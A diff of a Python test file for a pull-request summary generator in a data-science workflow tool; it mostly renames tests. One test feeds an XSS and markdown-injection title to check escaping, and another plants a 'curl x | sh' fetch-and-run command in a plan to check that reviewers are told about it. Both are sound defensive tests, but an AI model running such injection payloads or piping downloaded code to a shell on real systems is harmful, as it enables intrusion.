@@ -1,4 +1,4 @@
-"""The summary of a pull request, on real branches."""
+"""The summary of a pull request."""
 
 from __future__ import annotations
 
@@ -22,7 +22,7 @@ EXAMPLE = Path(__file__).parents[3] / "projects" / "caravan-policies"
 ASSESSMENT = "projects/churn/01-setup/assessment.md"
 
 
-def summarised(team: Team, base: str = "main") -> str:
+def summary_of(team: Team, base: str = "main") -> str:
     with compare(config.load(team.root), base) as comparison:
         return summary(comparison, review(comparison, team.root))
 
@@ -31,51 +31,51 @@ def section(text: str, title: str) -> str:
     return text.split(f"## {title}\n\n", 1)[1].split("\n## ", 1)[0]
 
 
-def test_it_says_what_moves_and_what_stands_in_the_way(team: Team) -> None:
+def test_status_changes_and_next_gates_are_listed(team: Team) -> None:
     team.document("churn/01-setup/assessment.md", Status.DRAFT)
     team.commit()
     with team.pull_request():
         team.change(ASSESSMENT, "status: draft", "status: in_review")
-    text = summarised(team)
+    text = summary_of(team)
     assert "draft → in_review" in section(text, "Status changes")
-    assert "**GATE004** `lift`: the expected lift is not computed" in section(text, "Next gates")
-    assert "(data science: `iterata lift churn/01-setup`)" in text, "a command can be copied"
+    assert "**GATE004** `lift`: " in section(text, "Next gates")
+    assert "(data science: `iterata lift churn/01-setup`)" in text, "the remedy is a command to copy"
 
 
-def test_it_is_the_same_every_time(team: Team) -> None:
+def test_summary_is_deterministic(team: Team) -> None:
     with team.pull_request():
         team.document("churn/01-setup/assessment.md")
         team.document("pricing/requirements.md")
-    assert summarised(team) == summarised(team)
+    assert summary_of(team) == summary_of(team)
 
 
-def test_it_says_when_there_is_nothing_to_say(team: Team) -> None:
+def test_summary_without_changed_documents(team: Team) -> None:
     with team.pull_request():
         team.write("README.md", "a readme\n")
-    assert summarised(team) == "No stage document is changed.\n"
+    assert summary_of(team) == "No stage document is changed.\n"
 
 
-def test_words_of_a_document_stay_words(team: Team) -> None:
-    """A title can neither open a tag, nor a link, nor a column, nor a section of its own."""
+def test_text_of_a_document_is_escaped(team: Team) -> None:
+    """A title cannot begin a tag, a link, a column or a section."""
     hostile = "<img src=x onerror=alert(1)> [a](javascript:b) | ## c `d`\\n\\n## e"
     with team.pull_request():
         path = team.document("churn/01-setup/assessment.md")
         team.change(path, "title: Technical needs assessment", f'title: "{hostile}"')
-    row = next(line for line in summarised(team).splitlines() if "onerror" in line)
+    row = next(line for line in summary_of(team).splitlines() if "onerror" in line)
     assert "&lt;img src=x" in row
     assert r"\[a\](javascript:b)" in row
     assert r"\|" in row
-    assert summarised(team).count("\n## ") == summarised(team).count("\n\n## ")
-    assert "\n## e" not in summarised(team)
+    assert summary_of(team).count("\n## ") == summary_of(team).count("\n\n## ")
+    assert "\n## e" not in summary_of(team)
 
 
-def test_it_shows_the_lift_the_results_and_what_was_learned(team: Team) -> None:
+def test_lift_results_and_findings_are_shown(team: Team) -> None:
     with team.pull_request():
         place = team.root / "projects" / "caravan-policies"
         shutil.copytree(EXAMPLE, place, ignore=shutil.ignore_patterns("data"))
         result = place / "01-setup/results/experiment.json"
         result.write_text(result.read_text("utf-8").replace('"holds": true', '"holds": false', 1), "utf-8")
-    text = summarised(team)
+    text = summary_of(team)
     assert "potential lift" in section(text, "Expected lift")
     results = section(text, "Results")
     assert "| caravan-policies/01-setup: policies sold (policies per mailing) |" in results
@@ -87,7 +87,7 @@ def test_it_shows_the_lift_the_results_and_what_was_learned(team: Team) -> None:
     assert "**negative**" in section(text, "Findings")
 
 
-def test_it_remembers_what_was_tried(team: Team) -> None:
+def test_similar_findings_are_listed(team: Team) -> None:
     report = team.document("churn/01-setup/report.md")
     team.change(
         report,
@@ -98,21 +98,21 @@ def test_it_remembers_what_was_tried(team: Team) -> None:
     with team.pull_request():
         path = team.document("churn/02-age/proposal.md")
         team.change(path, "claim: 'What is believed", "claim: 'Purchases depend on age; What is believed")
-    assert "`churn/01-setup#F1`" in section(summarised(team), "Have we tried this?")
+    assert "`churn/01-setup#F1`" in section(summary_of(team), "Have we tried this?")
 
 
 @pytest.mark.parametrize("claim", ["Purchases depend on the weather of the day before", "xyz"])
-def test_it_does_not_remember_what_was_not(team: Team, claim: str) -> None:
+def test_dissimilar_findings_are_not_listed(team: Team, claim: str) -> None:
     team.document("churn/01-setup/report.md")
     team.commit("a finding")
     with team.pull_request():
         path = team.document("churn/02-age/proposal.md")
         before = next(line for line in team.read(path).splitlines() if "claim:" in line)
         team.change(path, before, f"{before.split('claim:')[0]}claim: {claim}")
-    assert "Have we tried this?" not in summarised(team)
+    assert "Have we tried this?" not in summary_of(team)
 
 
-def test_it_names_what_became_suspect(team: Team) -> None:
+def test_suspect_documents_are_listed(team: Team) -> None:
     path = team.document("churn/01-setup/assessment.md", Status.APPROVED)
     digest = "sha256:" + "0" * 64
     team.change(path, "status: approved", f"written_against: {{requirements: '{digest}'}}\nstatus: approved")
@@ -120,17 +120,17 @@ def test_it_names_what_became_suspect(team: Team) -> None:
     with team.pull_request():
         team.document("pricing/requirements.md")
     assert "`projects/churn/requirements.md` has changed since" in section(
-        summarised(team), "Suspect documents"
+        summary_of(team), "Suspect documents"
     )
 
 
-def test_it_says_which_code_a_plan_would_run(team: Team) -> None:
-    """Approving a plan lets its code be run; whoever reviews it need not look for it."""
+def test_code_of_a_plan_is_listed(team: Team) -> None:
+    """An approval permits the execution of this code."""
     path = "projects/churn/01-setup/proposal.md"
     boosted = "estimator: sklearn.ensemble.HistGradientBoostingClassifier"
     with team.pull_request():
         team.document("churn/01-setup/proposal.md")
         team.change(path, boosted, "producer: command\n      command: [sh, -c, curl x | sh]")
-    told = section(summarised(team), "Code that a run would execute")
-    assert "sh -c" in told
-    assert "in projects/churn, at most 60 minutes a fold" in told
+    code = section(summary_of(team), "Code that a run would execute")
+    assert "sh -c" in code
+    assert "in projects/churn, at most 60 minutes a fold" in code
